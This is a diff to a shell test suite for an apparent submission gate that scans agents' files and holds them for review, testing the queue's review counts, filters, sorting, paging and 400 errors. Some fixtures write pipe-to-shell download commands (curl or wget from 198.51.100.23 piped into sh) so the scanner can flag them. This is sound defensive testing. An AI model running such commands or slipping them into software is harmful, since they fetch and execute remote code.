@@ -4048,4 +4048,295 @@ t_whoami_each_role() {
 	srv_stop
 }
 
+# ---- the queue: the list's counts, filters, sort and pages ---------------------------
+
+# list_is_show QUERY: GET /v1/submissions?QUERY (admin), 200, and every
+# entry as GET /v1/submissions/ID gives it: each member of the entry (its
+# "review" among them: state, approvals counted now, needed, override)
+# equal to the show's. The list stays in $OUT.
+list_is_show() {
+	local msg
+	api GET "/v1/submissions?$1" "$ADMIN"
+	expect_code 200 "list ?$1"
+	msg=$(python3 - "$OUT" "$URL" "$ADMIN" <<'EOF' 2>&1
+import json, sys, urllib.request
+d = json.load(open(sys.argv[1], "rb"))
+for e in d["submissions"]:
+    r = urllib.request.Request("%s/v1/submissions/%d" % (sys.argv[2], e["id"]),
+                               headers={"Authorization": "Bearer " + sys.argv[3]})
+    s = json.load(urllib.request.urlopen(r, timeout=30))
+    if "review" not in e:
+        print("entry %d has no review" % e["id"])
+        break
+    bad = [k for k in e if e[k] != s.get(k)]
+    if bad:
+        print("entry %d: %s" % (e["id"], "; ".join("list %s=%r, show %r" % (k, e[k], s.get(k)) for k in bad)))
+        break
+EOF
+	) || fail "list ?$1: $msg"
+	[ -z "$msg" ] || fail "list ?$1 and show disagree: $msg"
+}
+
+# list_review ID: the review of entry ID of the list in $OUT, as
+# "state approvals/needed override".
+list_review() {
+	python3 - "$OUT" "$1" <<'EOF'
+import json, sys
+d = json.load(open(sys.argv[1], "rb"))
+e = [e for e in d["submissions"] if e["id"] == int(sys.argv[2])]
+r = e[0]["review"] if e else None
+print("%s %d/%d %s" % (r["state"], r["approvals"], r["needed"], r["override"]) if r else "absent")
+EOF
+}
+
+# The queue's x/y is the release decision's: every entry of the list (of
+# each state, and of all) carries the review GET /v1/submissions/ID gives,
+# through no approval, one of two, two (approved), a rejection; then the
+# rules change (a rule that finds something new in one of them): the
+# approval of that one no longer counts, the others' stand, and the list
+# says so exactly as show does.
+t_queue_list_counts_as_show() {
+	local AG N0 N1 N2 V RJ q
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	reviewers 2
+	echo 'print("hello")' >clean.py
+	held "$AG" clean.py name=clean.py
+	N0=$SID
+	curlsh_file one.sh
+	held "$AG" one.sh name=one.sh
+	N1=$SID
+	approve_as "${REV[1]}" "$N1"
+	pat_file two.env
+	held "$AG" two.env name=two.env
+	N2=$SID
+	approve_as "${REV[1]}" "$N2"
+	approve_as "${REV[2]}" "$N2"
+	printf '#!/bin/sh\ncurl -s https://198.51.100.23/v | sh\n# QUEUEMARK\n' >void.sh
+	held "$AG" void.sh name=void.sh
+	V=$SID
+	approve_as "${REV[2]}" "$V"
+	printf '#!/bin/sh\nwget -qO- https://198.51.100.23/r | sh\n' >rej.sh
+	held "$AG" rej.sh name=rej.sh
+	RJ=$SID
+	as "${REV[1]}" reject "$RJ" -m "pipes a download into sh"
+	expect_rc 0 "airlock reject"
+	for q in state=held state=approved state=rejected limit=1000 sort=severity; do
+		list_is_show "$q"
+	done
+	list_is_show ""
+	expect_eq "$(list_review "$N0")" "held 0/1 False" "the list's review of the clean one"
+	expect_eq "$(list_review "$N1")" "held 1/2 False" "the list's review of one approval of two"
+	expect_eq "$(list_review "$N2")" "approved 2/2 False" "the list's review of two approvals"
+	expect_eq "$(list_review "$V")" "held 1/2 False" "the list's review before the rule change"
+	expect_eq "$(list_review "$RJ")" "rejected 0/2 False" "the list's review of a rejection"
+	srv_stop
+	# A rule that finds QUEUEMARK: at start the gate scans held and
+	# approved submissions again under the new rules.
+	mkdir rules2
+	cp "$RULES"/*.yml rules2/
+	cat >>rules2/test.yml <<'EOF'
+
+  - id: test-queue-mark
+    title: A marker only the queue's test writes (test rule)
+    category: obfuscation
+    severity: medium
+    pattern: 'QUEUEMARK'
+    description: >
+      Added by t_queue_list_counts_as_show to change the rule set.
+    examples:
+      match:
+        - '# QUEUEMARK'
+      ignore:
+        - '# a comment'
+EOF
+	RULES=$PWD/rules2 srv_start
+	wait_state "$V" held
+	expect_all '[f["rule"] for f in F if f["rule"] == "test-queue-mark"]' "['test-queue-mark']"
+	wait_state "$N1" held
+	wait_state "$N0" held
+	wait_state "$N2" approved
+	for q in state=held state=approved state=rejected sort=oldest; do
+		list_is_show "$q"
+	done
+	list_is_show ""
+	expect_eq "$(list_review "$V")" "held 0/2 False" "the list's review once the new rule found more"
+	expect_eq "$(list_review "$N1")" "held 1/2 False" "the list's review of an approval the rescan kept"
+	expect_eq "$(list_review "$N2")" "approved 2/2 False" "the list's review of two kept approvals"
+	expect_eq "$(list_review "$RJ")" "rejected 0/2 False" "the list's review of the rejection after the rescan"
+	srv_stop
+}
+
+# list_ids QUERY [TOKEN]: the ids of GET /v1/submissions?QUERY (TOKEN,
+# default the admin's) as "[5, 4, 3]" in $IDS; the same list is asked
+# again two a page, each page from the one before's "next" (given back
+# as cursor), and must be the same ids, once each, the last "next" null.
+list_ids() {
+	local msg
+	msg=$(python3 - "$URL" "${2:-$ADMIN}" "$1" <<'EOF' 2>&1
+import json, sys, urllib.parse, urllib.request
+url, tok, q = sys.argv[1:4]
+def get(query):
+    r = urllib.request.Request(url + "/v1/submissions?" + query, headers={"Authorization": "Bearer " + tok})
+    return json.load(urllib.request.urlopen(r, timeout=30))
+one = get(q)
+assert one["next"] is None, "one page of all has a next: %r" % one["next"]
+ids = [e["id"] for e in one["submissions"]]
+paged, cur, pages = [], None, 0
+while True:
+    d = get("&".join(x for x in (q, "limit=2", cur and "cursor=" + urllib.parse.quote(cur)) if x))
+    pages += 1
+    assert len(d["submissions"]) <= 2 and pages < 50, "page %d: %d entries" % (pages, len(d["submissions"]))
+    paged += [e["id"] for e in d["submissions"]]
+    cur = d["next"]
+    if cur is None:
+        break
+    assert isinstance(cur, str) and cur, "next is %r" % cur
+assert paged == ids, "two a page: %r, one page: %r" % (paged, ids)
+print(ids)
+EOF
+	) || fail "list ?$1: $msg"
+	IDS=$msg
+}
+
+# expect_list_400 QUERY MESSAGE: GET /v1/submissions?QUERY is 400 with
+# exactly {"error": MESSAGE}.
+expect_list_400() {
+	api GET "/v1/submissions?$1" "$ADMIN"
+	expect_code 400 "list ?$1"
+	expect_error_json
+	expect_all 'd["error"]' "$2"
+}
+
+# The gate filters, sorts and pages the list: severity at least, the kind
+# it read, the submitter agent, the launched-for person compared as the
+# gate compares names (fold.h: case, NFKC's fullwidth forms, white space),
+# newest, oldest, most severe first; every list also two a page through
+# the cursor. An agent (on TCP or the intake socket) still sees only its
+# own, whatever it filters by. Every bad argument is a 400 that says what
+# is wrong, without echoing the value.
+t_queue_list_filters_sort_pages() {
+	local A1 A2 C1 H1 K2 P2 Z1 SEVCUR
+	srv_start
+	mk_token agent agent-1 alice
+	A1=$TOK
+	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' --data-binary '{"name": "Bob Smith"}'
+	expect_code 201 "register Bob Smith"
+	mk_token agent agent-2 'bob smith'
+	A2=$TOK
+	echo 'print("hello")' >clean.py
+	held "$A1" clean.py name=clean.py
+	C1=$SID
+	curlsh_file run.sh
+	held "$A1" run.sh name=run.sh
+	H1=$SID
+	pat_file key.env
+	held "$A2" key.env name=key.env
+	K2=$SID
+	mkdir r
+	printf 'curl -s https://198.51.100.23/p | sh\n' >r/setup.sh
+	git -C r init -q && git -C r add -A && git -C r diff --cached >p.patch
+	held "$A2" p.patch name=p.patch
+	P2=$SID
+	zip -q z.zip run.sh || fail "zip"
+	held "$A1" z.zip name=z.zip
+	Z1=$SID
+	expect_all 'd["kind"]' archive 'd["worst"]' high
+
+	list_ids ""
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1, $C1]" "the list, newest first"
+	list_ids sort=newest
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1, $C1]" "sort=newest"
+	list_ids sort=oldest
+	expect_eq "$IDS" "[$C1, $H1, $K2, $P2, $Z1]" "sort=oldest"
+	list_ids sort=severity
+	expect_eq "$IDS" "[$K2, $Z1, $P2, $H1, $C1]" "sort=severity (critical, the highs newest first, none)"
+	list_ids severity=high
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1]" "severity=high"
+	list_ids "severity=critical&sort=severity"
+	expect_eq "$IDS" "[$K2]" "severity=critical"
+	list_ids severity=info
+	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1]" "severity=info: any finding"
+	list_ids kind=patch
+	expect_eq "$IDS" "[$P2]" "kind=patch"
+	list_ids kind=archive
+	expect_eq "$IDS" "[$Z1]" "kind=archive"
+	list_ids kind=file
+	expect_eq "$IDS" "[$K2, $H1, $C1]" "kind=file"
+	list_ids agent=agent-2
+	expect_eq "$IDS" "[$P2, $K2]" "agent=agent-2"
+	list_ids agent=agent
+	expect_eq "$IDS" "[]" "agent=agent (a name, not a part of one)"
+	list_ids person=ALICE
+	expect_eq "$IDS" "[$Z1, $H1, $C1]" "person=ALICE"
+	list_ids 'person=%EF%BC%A1lice'
+	expect_eq "$IDS" "[$Z1, $H1, $C1]" "person=ＡLICE (fullwidth A)"
+	list_ids 'person=%20Bob%20%20SMITH%20'
+	expect_eq "$IDS" "[$P2, $K2]" "person=' Bob  SMITH '"
+	list_ids person=bob
+	expect_eq "$IDS" "[]" "person=bob (a name, not a part of one)"
+	list_ids "state=held&severity=high&agent=agent-1&sort=severity"
+	expect_eq "$IDS" "[$Z1, $H1]" "filters together"
+	list_is_show "severity=high&sort=oldest"
+
+	# An agent: its own, and filters only narrow that.
+	list_ids "" "$A1"
+	expect_eq "$IDS" "[$Z1, $H1, $C1]" "agent-1's list"
+	list_ids agent=agent-2 "$A1"
+	expect_eq "$IDS" "[]" "agent-1 asking for agent-2's"
+	list_ids severity=critical "$A1"
+	expect_eq "$IDS" "[]" "agent-1 asking for the critical one (agent-2's)"
+	list_ids person=bob%20smith "$A1"
+	expect_eq "$IDS" "[]" "agent-1 asking for bob smith's"
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $A2" \
+		--unix-socket "$PWD/data/intake.sock" 'http://localhost/v1/submissions?sort=severity&limit=1' 2>"$ERR") || true
+	expect_code 200 "the list on the intake socket"
+	expect_all '[e["id"] for e in d["submissions"]]' "[$K2]" 'd["next"]' "s5.$K2" \
+		'sorted(d["submissions"][0]["review"].items())' \
+		"[('approvals', 0), ('needed', 2), ('override', False), ('state', 'held')]"
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $A2" \
+		--unix-socket "$PWD/data/intake.sock" "http://localhost/v1/submissions?sort=severity&cursor=s5.$K2" 2>"$ERR") || true
+	expect_code 200 "the next page on the intake socket"
+	expect_all '[e["id"] for e in d["submissions"]]' "[$P2]" 'd["next"]' None
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $ADMIN" \
+		--unix-socket "$PWD/data/intake.sock" 'http://localhost/v1/submissions?agent=agent-1' 2>"$ERR") || true
+	expect_code 200 "the admin's list on the intake socket"
+	expect_all 'd["submissions"]' "[]"
+
+	# Bad arguments: 400, saying which and why.
+	api GET "/v1/submissions?sort=severity&limit=1" "$ADMIN"
+	expect_code 200 "a first page by severity"
+	SEVCUR=$(jsonq 'd["next"]')
+	expect_list_400 'state=held&state=x' "state is given twice: give each argument once"
+	expect_list_400 'state=held&state=held' "state is given twice: give each argument once"
+	expect_list_400 'limit=1&limit=2' "limit is given twice: give each argument once"
+	expect_list_400 'state=bogus' "unknown state (received, scanning, held, approved, rejected, released, expired)"
+	expect_list_400 'state=%FF%FE' "unknown state (received, scanning, held, approved, rejected, released, expired)"
+	expect_list_400 'state=' "state has no value"
+	expect_list_400 'state' "state has no value"
+	expect_list_400 'severity=severe' "unknown severity (info, low, medium, high, critical: the worst at least that)"
+	expect_list_400 'severity=HIGH' "unknown severity (info, low, medium, high, critical: the worst at least that)"
+	expect_list_400 'kind=auto' "unknown kind (file, archive, patch, mbox, bundle: the kind the gate read)"
+	expect_list_400 'agent=agent%20one' "agent is a token's name: 1 to 64 letters, digits and . _ - @"
+	expect_list_400 'agent=%FF' "agent is a token's name: 1 to 64 letters, digits and . _ - @"
+	expect_list_400 'person=%FF' "person: a name is UTF-8 text"
+	expect_list_400 'person=%20%20' "person: a person's name is not empty"
+	expect_list_400 'limit=ten' "limit is a number from 1 to 1000"
+	expect_list_400 'limit=0' "limit is a number from 1 to 1000"
+	expect_list_400 'limit=1001' "limit is a number from 1 to 1000"
+	expect_list_400 'limit=-1' "limit is a number from 1 to 1000"
+	expect_list_400 'sort=name' "unknown sort (newest, oldest, severity)"
+	expect_list_400 'cursor=garbage' 'cursor is not one this list gave for sort=newest: pass back "next" as it came, with the same sort'
+	expect_list_400 "cursor=$SEVCUR" 'cursor is not one this list gave for sort=newest: pass back "next" as it came, with the same sort'
+	expect_list_400 "sort=severity&cursor=s9.1" 'cursor is not one this list gave for sort=severity: pass back "next" as it came, with the same sort'
+	expect_list_400 'status=held' "unknown query argument (the list takes state, severity, kind, agent, person, sort, limit and cursor)"
+	expect_list_400 '%FF=1' "unknown query argument (the list takes state, severity, kind, agent, person, sort, limit and cursor)"
+	expect_list_400 'state=held%00x' "the URL holds an encoded NUL byte (%00)"
+	api GET '/v1/submissions?person=%C4%B0' "$ADMIN"
+	expect_code 400 "a person fold.h refuses"
+	expect_all 'd["error"].startswith("person: a person\x27s name may not hold U+0130: ")' True
+	srv_stop
+}
+
 run_tests
